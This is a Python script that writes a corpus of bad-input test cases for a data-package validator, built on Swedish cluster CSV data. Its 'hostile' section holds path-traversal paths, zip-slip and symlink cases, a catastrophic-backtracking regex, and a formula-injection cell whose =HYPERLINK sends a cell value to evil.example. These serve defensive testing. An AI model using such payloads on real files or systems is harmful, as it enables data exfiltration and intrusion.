"""Write the small cases of the bad-input corpus (run once; the written files are the source).

    .venv/bin/python tests/corpus/_generate.py

Each case is a folder `tests/corpus/<case-id>/` holding a small data package (or a deliberately
broken one) and `expected.json`:

    {"exit": 0|1|2, "check": "<check id of the main finding>" | null,
     "path": "<file the finding or message names>", "line": N | null,
     "build": "<builder in tests/test_corpus.py>" (optional), "note": "why" (optional)}

Cases whose bytes are big (10 MB cell, 1,000 columns, 100 MB file, 10,000-deep JSON) or that
need the file system (symbolic links, a FIFO, a zip) hold only `expected.json` with a `build`
name; tests/test_corpus.py generates them into a temporary folder. In every descriptor the
placeholder `@OUTSIDE@` is replaced at test time by the absolute path of a sentinel file outside
the package, whose secret content must never appear in any output.

Re-running this script rewrites the cases it knows and leaves other folders alone.
"""

from __future__ import annotations

import copy
import json
import shutil
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent

REGIONS_SCHEMA: dict[str, Any] = {
    "fields": [
        {"name": "id", "type": "string",
         "constraints": {"required": True, "pattern": "^[a-z0-9]+(-[a-z0-9]+)*$"}},
        {"name": "name", "type": "string", "constraints": {"required": True}},
    ],
    "primaryKey": ["id"],
}
CLUSTERS_SCHEMA: dict[str, Any] = {
    "fields": [
        {"name": "id", "type": "string",
         "constraints": {"required": True, "pattern": "^[a-z0-9]+(-[a-z0-9]+)*$"}},
        {"name": "name", "type": "string",
         "constraints": {"required": True, "maxLength": 200}},
        {"name": "region_id", "type": "string"},
        {"name": "founded", "type": "integer",
         "constraints": {"minimum": 1900, "maximum": 2030}},
        {"name": "website", "type": "string", "format": "uri"},
        {"name": "status", "type": "string",
         "constraints": {"enum": ["active", "inactive"]}},
    ],
    "primaryKey": ["id"],
    "foreignKeys": [
        {"fields": ["region_id"], "reference": {"resource": "regions", "fields": ["id"]}},
    ],
}
REGIONS_CSV = (
    "id,name\n"
    "se-ab,Stockholms län\n"
    "se-o,Västra Götalands län\n"
    "se-m,Skåne län\n"
    "se-s,Värmlands län\n"
)
CLUSTERS_ROWS = [
    "id,name,region_id,founded,website,status",
    "paper-province,The Paper Province,se-s,1999,https://paperprovince.com,active",
    "stal-och-verkstad,IUC Stål och Verkstad,se-s,2003,https://stalverkstad.se,active",
    "lighting-metropolis,Lighting Metropolis,se-m,2016,https://lightingmetropolis.com,inactive",
    "lindholmen,Lindholmen Science Park,se-o,2000,https://lindholmen.se,active",
    "kista-science-city,Kista Science City,se-ab,1988,https://kista.com,active",
]


def clusters_csv(rows: list[str] | None = None) -> str:
    return "\n".join(rows if rows is not None else CLUSTERS_ROWS) + "\n"


def descriptor(**changes: Any) -> dict[str, Any]:
    return {
        "name": "corpus-case",
        "resources": [
            {"name": "regions", "path": "data/regions.csv", "schema": copy.deepcopy(REGIONS_SCHEMA)},
            {"name": "clusters", "path": "data/clusters.csv",
             "schema": copy.deepcopy(CLUSTERS_SCHEMA), **changes},
        ],
    }


def base_files(clusters: bytes | str | None = None) -> dict[str, bytes | str]:
    return {
        "datapackage.json": descriptor(),
        "data/regions.csv": REGIONS_CSV,
        "data/clusters.csv": clusters if clusters is not None else clusters_csv(),
    }


def rows_with(index: int, row: str) -> list[str]:
    rows = list(CLUSTERS_ROWS)
    rows[index] = row
    return rows


CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {}


def case(case_id: str, files: dict[str, Any], **expected: Any) -> None:
    if expected.get("build") and not files:
        files = base_files()  # the builder changes a sound package
    CASES[case_id] = (files, expected)


SWEDISH = clusters_csv(rows_with(2, "stal-och-verkstad,Stål & Verkstad i Värmland,se-s,2003,,"
                                    "active"))

# --- encodings -------------------------------------------------------------------------------
case("enc-cp1252-swedish", base_files(SWEDISH.encode("cp1252")),
     exit=1, check="encoding-error", path="data/clusters.csv", line=3)
case("enc-latin1-swedish", base_files(clusters_csv(rows_with(
    5, "kista-science-city,Kista Science City – Örebro,se-ab,1988,,active")).replace(
    "–", "-").encode("latin-1")),
     exit=1, check="encoding-error", path="data/clusters.csv", line=3,
     note="the first non-UTF-8 byte is the å of 'Stål' on line 3")
case("enc-utf16-le-bom", base_files(SWEDISH.encode("utf-16")),
     exit=1, check="encoding-error", path="data/clusters.csv", line=1)
case("enc-utf16-be-bom", base_files(b"\xfe\xff" + SWEDISH.encode("utf-16-be")),
     exit=1, check="encoding-error", path="data/clusters.csv", line=1)
case("enc-utf16-no-bom", base_files(SWEDISH.encode("utf-16-le")),
     exit=1, check="nul-byte", path="data/clusters.csv", line=1,
     note="UTF-16 without a BOM is recognised by its NUL bytes")
case("enc-utf8-bom", base_files("\ufeff" + SWEDISH),
     exit=0, check="byte-order-mark", path="data/clusters.csv", line=1,
     note="legal input: UTF-8 with BOM reads correctly, so it is a warning and the run passes")
case("enc-utf8-bom-and-bad-cell", base_files("\ufeff" + clusters_csv(rows_with(
    4, "lighting-metropolis,Lighting Metropolis,se-m,twenty,,inactive")))
     , exit=1, check="type-error", path="data/clusters.csv", line=5,
     note="a BOM must not shift the reported line of a later error")
case("enc-invalid-utf8", base_files(clusters_csv().encode().replace(
    b"Lindholmen Science", b"Lindholmen \xff\xfe Science")),
     exit=1, check="encoding-error", path="data/clusters.csv", line=5)
case("enc-truncated-utf8", base_files(clusters_csv().encode()[:-1] + b",St\xc3"),
     exit=1, check="encoding-error", path="data/clusters.csv", line=6)
case("enc-nul-byte", base_files(clusters_csv().encode().replace(b"Lindholmen ", b"Lind\x00holmen ")),
     exit=1, check="nul-byte", path="data/clusters.csv", line=5)
case("enc-declared-unknown", {**base_files(), "datapackage.json": descriptor(encoding="klingon")},
     exit=1, check="encoding-error", path="datapackage.json", line=None,
     note="an encoding name Python does not know is a located error, not a LookupError")
case("enc-declared-cp1252-matches", {**base_files(SWEDISH.encode("cp1252")),
                                     "datapackage.json": descriptor(encoding="windows-1252")},
     exit=0, check=None, path="data/clusters.csv", line=None,
     note="Frictionless semantics: a declared encoding is honoured; the file is valid")

# --- structure -------------------------------------------------------------------------------
case("struct-empty-file", base_files(""),
     exit=1, check="empty-file", path="data/clusters.csv", line=1)
case("struct-header-only", base_files(CLUSTERS_ROWS[0] + "\n"),
     exit=0, check=None, path="data/clusters.csv", line=None,
     note="Frictionless semantics: a table with a header and no rows is valid (zero rows)")
case("struct-header-only-but-referenced", {
    **base_files(), "data/regions.csv": "id,name\n"},
     exit=1, check="foreign-key", path="data/clusters.csv", line=2,
     note="an empty parent table makes every reference dangle")
case("struct-missing-header-cell", base_files(clusters_csv(
    ["id,name,region_id,founded,website"] + [r.rsplit(",", 1)[0] for r in CLUSTERS_ROWS[1:]])),
     exit=1, check="missing-label", path="data/clusters.csv", line=1)
case("struct-duplicate-header-cell", base_files(clusters_csv(
    rows_with(0, "id,name,region_id,founded,website,name"))),
     exit=1, check="duplicate-label", path="data/clusters.csv", line=1)
case("struct-blank-header-cell", base_files(clusters_csv(
    rows_with(0, "id,name,,founded,website,status"))),
     exit=1, check="blank-label", path="data/clusters.csv", line=1)
case("struct-renamed-header-cell", base_files(clusters_csv(
    rows_with(0, "id,name,region,founded,website,status"))),
     exit=1, check="incorrect-label", path="data/clusters.csv", line=1)
case("struct-short-row", base_files(clusters_csv(
    rows_with(3, "lighting-metropolis,Lighting Metropolis,se-m,2016"))),
     exit=1, check="missing-cell", path="data/clusters.csv", line=4)
case("struct-long-row", base_files(clusters_csv(
    rows_with(4, "lindholmen,Lindholmen,Science Park,se-o,2000,https://lindholmen.se,active"))),
     exit=1, check="extra-cell", path="data/clusters.csv", line=5)
case("struct-unclosed-quote-at-end", base_files(clusters_csv(
    rows_with(5, 'kista-science-city,"Kista Science City,se-ab,1988,https://kista.com,active'))),
     exit=1, check="missing-cell", path="data/clusters.csv", line=6,
     note="the quote runs to the end of the file, so the last row has too few cells")
case("struct-stray-quote-swallows-rows", base_files(clusters_csv(
    rows_with(2, 'stal-och-verkstad,"IUC Stål och Verkstad,se-s,2003,https://stalverkstad.se,active'
              ))),
     exit=1, check="swallowed-rows", path="data/clusters.csv", line=3)
case("struct-cr-only-line-endings", base_files(clusters_csv().replace("\n", "\r")),
     exit=0, check="line-endings", path="data/clusters.csv", line=None,
     note="legal input (RFC 4180 readers accept it); a warning, the run passes")
case("struct-cr-only-with-bad-cell", base_files(clusters_csv(rows_with(
    3, "lighting-metropolis,Lighting Metropolis,se-m,1850,,inactive")).replace("\n", "\r")),
     exit=1, check="constraint-minimum", path="data/clusters.csv", line=4,
     note="lines counted over CR-only line ends")
case("struct-mixed-line-endings", base_files(
    "\r\n".join(CLUSTERS_ROWS[:3]) + "\n" + "\n".join(CLUSTERS_ROWS[3:]) + "\r\n"),
     exit=0, check="mixed-line-endings", path="data/clusters.csv", line=None,
     note="legal input; a warning that `clusterdata format` fixes")
case("struct-blank-row", base_files(clusters_csv(rows_with(3, ""))),
     exit=1, check="blank-row", path="data/clusters.csv", line=4)
case("struct-wrong-delimiter", base_files(clusters_csv().replace(",", ";")),
     exit=1, check="incorrect-label", path="data/clusters.csv", line=1)
case("struct-quoted-newline-shifts-lines", base_files(clusters_csv(
    rows_with(1, 'paper-province,"The Paper\nProvince",se-s,1999,https://paperprovince.com,active')
    [:4] + ["lindholmen,Lindholmen Science Park,se-o,2000,not a url,active"])),
     exit=1, check="type-error", path="data/clusters.csv", line=6,
     note="record 5 starts on physical line 6 because a quoted cell holds a newline")
case("struct-ten-mb-field", {}, build="ten_mb_field",
     exit=1, check="constraint-max-length", path="data/clusters.csv", line=3)
case("struct-thousand-columns", {}, build="thousand_columns",
     exit=1, check="extra-label", path="data/clusters.csv", line=1)

# --- descriptor ------------------------------------------------------------------------------
case("desc-invalid-json", {**base_files(),
                           "datapackage.json": json.dumps(descriptor(), indent=2).replace(
                               '"regions",', '"regions"', 1)},
     exit=1, check="descriptor-error", path="datapackage.json", line=6,
     note="the JSON reader notices the missing comma at the next token, on line 6")
case("desc-not-an-object", {**base_files(), "datapackage.json": [descriptor()]},
     exit=1, check="descriptor-error", path="datapackage.json", line=None)
case("desc-no-resources", {"datapackage.json": {"name": "empty"}},
     exit=1, check="descriptor-error", path="datapackage.json", line=None)
case("desc-not-utf8", {**base_files(), "datapackage.json": json.dumps(
    {"title": "Kluster i Sverige – Värmland", **descriptor()}, ensure_ascii=False, indent=2
).encode("cp1252")},
     exit=1, check="descriptor-error", path="datapackage.json", line=2)
case("desc-missing-resource-file", {**base_files(), "data/clusters.csv": None},
     exit=1, check="missing-file", path="datapackage.json", line=None)
case("desc-unknown-field-type", {**base_files(), "datapackage.json": {
    **descriptor(), "resources": [descriptor()["resources"][0], {
        **descriptor()["resources"][1], "schema": {
            **CLUSTERS_SCHEMA, "fields": [
                {**f, "type": "slug"} if f["name"] == "id" else f
                for f in CLUSTERS_SCHEMA["fields"]]}}]}},
     exit=1, check="schema-error", path="data/clusters.csv", line=None)
case("desc-foreign-key-missing-resource", {**base_files(), "datapackage.json": {
    **descriptor(), "resources": [descriptor()["resources"][0], {
        **descriptor()["resources"][1], "schema": {
            **CLUSTERS_SCHEMA, "foreignKeys": [{"fields": ["region_id"], "reference": {
                "resource": "counties", "fields": ["id"]}}]}}]}},
     exit=1, check="schema-error", path="data/clusters.csv", line=None)
case("desc-foreign-key-missing-field", {**base_files(), "datapackage.json": {
    **descriptor(), "resources": [descriptor()["resources"][0], {
        **descriptor()["resources"][1], "schema": {
            **CLUSTERS_SCHEMA, "foreignKeys": [{"fields": ["region_id"], "reference": {
                "resource": "regions", "fields": ["code"]}}]}}]}},
     exit=1, check="schema-error", path="data/clusters.csv", line=None)
case("desc-primary-key-missing-field", {**base_files(), "datapackage.json": {
    **descriptor(), "resources": [descriptor()["resources"][0], {
        **descriptor()["resources"][1], "schema": {**CLUSTERS_SCHEMA, "primaryKey": ["slug"]}}]}},
     exit=1, check="schema-error", path="data/clusters.csv", line=None)
case("desc-schema-contradicts-data", {**base_files(), "datapackage.json": {
    **descriptor(), "resources": [descriptor()["resources"][0], {
        **descriptor()["resources"][1], "schema": {
            **CLUSTERS_SCHEMA, "fields": [
                {**f, "type": "date"} if f["name"] == "founded" else f
                for f in CLUSTERS_SCHEMA["fields"]]}}]}},
     exit=1, check="type-error", path="data/clusters.csv", line=2)
case("desc-schema-file-not-json", {**base_files(),
                                   "datapackage.json": descriptor(schema="clusters.schema.json"),
                                   "clusters.schema.json": '{"fields": [ }'},
     exit=1, check="schema-error", path="clusters.schema.json", line=None)
case("desc-resource-path-is-folder", {**base_files(), "datapackage.json": descriptor(path="data")},
     exit=1, check="missing-file", path="datapackage.json", line=None)
case("desc-duplicate-resource-names", {**base_files(), "datapackage.json": {
    **descriptor(), "resources": [descriptor()["resources"][0],
                                  {**descriptor()["resources"][1], "name": "regions"}]}},
     exit=1, check="descriptor-error", path="datapackage.json", line=None,
     note="two resources named alike make keys and reports ambiguous")
case("desc-invalid-resource-name", {**base_files(), "datapackage.json": {
    **descriptor(), "resources": [descriptor()["resources"][0],
                                  {**descriptor()["resources"][1], "name": "Clusters 2024!"}]}},
     exit=1, check="descriptor-error", path="datapackage.json", line=None,
     note="Frictionless requires names matching ^[-a-z0-9._/]+$ and would refuse the package")
case("desc-no-descriptor", {"data/clusters.csv": clusters_csv()},
     exit=2, check=None, path="datapackage.json", line=None)
case("data-pattern-violation", base_files(clusters_csv(rows_with(
    4, "Lindholmen Park!,Lindholmen Science Park,se-o,2000,https://lindholmen.se,active"))),
     exit=1, check="constraint-pattern", path="data/clusters.csv", line=5)
case("data-required-empty", base_files(clusters_csv(rows_with(
    2, "stal-och-verkstad,,se-s,2003,https://stalverkstad.se,active"))),
     exit=1, check="constraint-required", path="data/clusters.csv", line=3)
case("data-duplicate-primary-key", base_files(clusters_csv(
    [*CLUSTERS_ROWS, "paper-province,Paper Province,se-s,1999,,active"])),
     exit=1, check="primary-key", path="data/clusters.csv", line=7)
case("data-dangling-foreign-key", base_files(clusters_csv(rows_with(
    3, "lighting-metropolis,Lighting Metropolis,se-xx,2016,,inactive"))),
     exit=1, check="foreign-key", path="data/clusters.csv", line=4)
case("data-enum-violation", base_files(clusters_csv(rows_with(
    5, "kista-science-city,Kista Science City,se-ab,1988,https://kista.com,aktiv"))),
     exit=1, check="constraint-enum", path="data/clusters.csv", line=6)

# --- hostile ---------------------------------------------------------------------------------
case("hostile-dotdot-path", {**base_files(), "datapackage.json": descriptor(path="../outside.csv")},
     exit=1, check="unsafe-path", path="datapackage.json", line=None)
case("hostile-dotdot-inside-path", {**base_files(),
                                    "datapackage.json": descriptor(path="data/../../outside.csv")},
     exit=1, check="unsafe-path", path="datapackage.json", line=None)
case("hostile-absolute-path", {**base_files(), "datapackage.json": descriptor(path="@OUTSIDE@")},
     exit=1, check="unsafe-path", path="datapackage.json", line=None)
case("hostile-file-url", {**base_files(), "datapackage.json": descriptor(path="file://@OUTSIDE@")},
     exit=1, check="unsafe-path", path="datapackage.json", line=None)
case("hostile-http-url", {**base_files(), "datapackage.json": descriptor(
    path="http://127.0.0.1:9/clusters.csv")},
     exit=1, check="unsafe-path", path="datapackage.json", line=None)
case("hostile-backslash-path", {**base_files(), "datapackage.json": descriptor(
    path="data\\..\\..\\outside.csv")},
     exit=1, check="unsafe-path", path="datapackage.json", line=None)
case("hostile-schema-path-outside", {**base_files(), "datapackage.json": descriptor(
    schema="../outside.csv")},
     exit=1, check="schema-error", path="datapackage.json", line=None)
case("hostile-symlink-file-outside", {}, build="symlink_file_outside",
     exit=1, check="unsafe-path", path="datapackage.json", line=None)
case("hostile-symlink-folder-outside", {}, build="symlink_folder_outside",
     exit=1, check="unsafe-path", path="datapackage.json", line=None)
case("hostile-fifo-as-data-file", {}, build="fifo_data_file",
     exit=1, check="missing-file", path="datapackage.json", line=None,
     note="a named pipe would block a reader forever; it is not a regular file")
case("hostile-zip-slip", {}, build="zip_slip",
     exit=2, check=None, path="package.zip", line=None)
case("hostile-zip-absolute-entry", {}, build="zip_absolute_entry",
     exit=2, check=None, path="package.zip", line=None)
case("hostile-zip-symlink-entry", {}, build="zip_symlink_entry",
     exit=2, check=None, path="package.zip", line=None)
case("hostile-sql-check-reads-outside", base_files(), build="sql_check_reads_outside",
     exit=2, check=None, path="steal.sql",
     note="a check file beside the package may not read files: refused before it runs")
case("hostile-formula-injection", base_files(clusters_csv(rows_with(
    4, 'lindholmen,"=HYPERLINK(""http://evil.example/?""&A1,""Lindholmen"")",se-o,2000,,active'))),
     exit=1, check="formula-injection", path="data/clusters.csv", line=5)
HOSTILE_ID_PATTERN = "(a|aa)+b|[a-z0-9]+(-[a-z0-9]+)*"
case("hostile-regex-backtracking", {
    **base_files(clusters_csv(rows_with(
        4, "a" * 5000 + "!,Lindholmen Science Park,se-o,2000,https://lindholmen.se,active"))),
    "datapackage.json": descriptor(schema={**CLUSTERS_SCHEMA, "fields": [
        {**f, "constraints": {**f["constraints"], "pattern": HOSTILE_ID_PATTERN}}
        if f["name"] == "id" else f for f in CLUSTERS_SCHEMA["fields"]]})},
     exit=1, check="pattern-timeout", path="data/clusters.csv", line=5,
     note="(a|aa)+b backtracks exponentially in Python's re (hours on this cell); the match "
          "runs under a time budget and the cell is reported instead of hanging validation")
case("hostile-deep-json-descriptor", {}, build="deep_json_descriptor",
     exit=1, check="descriptor-error", path="datapackage.json", line=None)
case("hostile-deep-json-in-schema", {}, build="deep_json_schema",
     exit=1, check="schema-error", path="data/clusters.csv", line=None)
case("hostile-huge-descriptor", {}, build="huge_descriptor",
     exit=1, check="descriptor-error", path="datapackage.json", line=None)
case("hostile-hundred-mb-file", {}, build="hundred_mb_file",
     exit=1, check="type-error", path="data/clusters.csv", line=None,
     note="line is filled in by the builder: the one bad cell sits near the end of the file")


def write_case(case_id: str, files: dict[str, Any], expected: dict[str, Any]) -> None:
    folder = HERE / case_id
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    for name, content in files.items():
        if content is None:
            continue
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, (dict, list)):
            content = json.dumps(content, indent=2, ensure_ascii=False) + "\n"
        if isinstance(content, str):
            content = content.encode("utf-8")
        target.write_bytes(content)
    ordered = {k: expected.get(k) for k in ("exit", "check", "path", "line")}
    ordered.update({k: v for k, v in expected.items() if k not in ordered})
    (folder / "expected.json").write_text(json.dumps(ordered, indent=2, ensure_ascii=False) + "\n",
                                          encoding="utf-8")


def main() -> None:
    for case_id, (files, expected) in CASES.items():
        write_case(case_id, files, expected)
    print(f"wrote {len(CASES)} cases under {HERE}")


if __name__ == "__main__":
    main()
